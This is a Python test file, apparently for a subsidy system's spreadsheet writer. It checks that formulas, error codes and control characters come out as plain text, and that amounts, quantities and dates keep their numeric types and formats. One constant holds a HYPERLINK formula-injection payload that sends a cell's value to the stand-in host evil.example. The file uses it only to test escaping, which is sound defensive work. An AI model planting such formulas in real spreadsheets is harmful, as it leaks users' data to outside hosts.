"""Every cell the system writes: text stays text whatever it starts with; numbers and dates keep their types."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from subsidy.core import sheets
from subsidy.rules.text import without_unwanted

FORMULA = '=HYPERLINK("http://evil.example/?id="&C2,"点击查看")'


def _write_only(values: list) -> list:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("表")
    sheets.append(sheet, ["始", *values, "末"])
    return _read(book)


def _ordinary(values: list) -> list:
    book = Workbook()
    for column, value in enumerate(["始", *values, "末"], start=1):
        sheets.put(book.active, 1, column, value)
    return _read(book)


def _read(book) -> list:
    """The cells of the first row between the two markers the writers put around the values."""
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    return list(row[1:-1])


def test_a_formula_an_error_code_and_a_control_character_are_written_as_plain_text():
    for write in (_write_only, _ordinary):
        cells = write([FORMULA, "#N/A", "=1+1", "东关村\x013组", "+86 139"])
        assert [c.value for c in cells] == [FORMULA, "#N/A", "=1+1", "东关村3组", "+86 139"]
        assert {c.data_type for c in cells} == {"s"}
        assert {c.number_format for c in cells} == {"@"}


def test_numbers_and_dates_stay_numbers_and_dates():
    for write in (_write_only, _ordinary):
        number, decimal, day, empty = write([3000, Decimal("1.5"), date(2026, 11, 23), None])
        assert (number.value, number.data_type) == (3000, "n")
        assert (decimal.value, decimal.data_type) == (1.5, "n")
        assert (day.value.date(), day.data_type) == (date(2026, 11, 23), "d")
        assert empty.value is None


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_any_string_reads_back_as_the_same_text_without_its_control_characters(value):
    (cell,) = _write_only([value])
    expected = without_unwanted(value)
    if not expected:
        assert cell.value is None
        return
    assert cell.data_type == "s"
    # XML keeps a carriage return only as a line break; nothing the rules allow is a carriage return.
    assert cell.value == expected


def test_amounts_and_quantities_are_numbers_with_their_formats_and_digits_that_are_no_number_are_text():
    for write in (_write_only, _ordinary):
        money, big, tons, kg, stoves, share, rate, account, none = write([
            sheets.money(220000), sheets.money(12_345_678_901_234_56), sheets.tons(1500), sheets.kg(12500),
            sheets.count(1), sheets.share_bp(5000), sheets.ratio(1, 3), sheets.text("622202160300100901"),
            sheets.money(None)])
        assert (money.value, money.data_type, money.number_format) == (2200, "n", "#,##0.00")
        assert (Decimal(str(big.value)), big.number_format) == (Decimal("12345678901234.56"), "#,##0.00")
        assert (tons.value, tons.number_format) == (1.5, "0.000")
        assert (kg.value, kg.number_format, stoves.value, stoves.number_format) == (12500, "#,##0", 1, "0")
        assert (share.value, share.number_format) == (0.5, "0%")
        assert (round(rate.value, 6), rate.number_format) == (0.333333, "0.0%")
        assert (account.value, account.data_type) == ("622202160300100901", "s")
        assert none.value is None


@settings(max_examples=60, deadline=None)
@given(st.integers(min_value=-10**15, max_value=10**15))
def test_any_amount_in_fen_reads_back_as_its_yuan_to_the_fen(fen):
    (cell,) = _write_only([sheets.money(fen)])
    assert Decimal(str(cell.value)).quantize(Decimal("0.01")) == Decimal(fen).scaleb(-2)
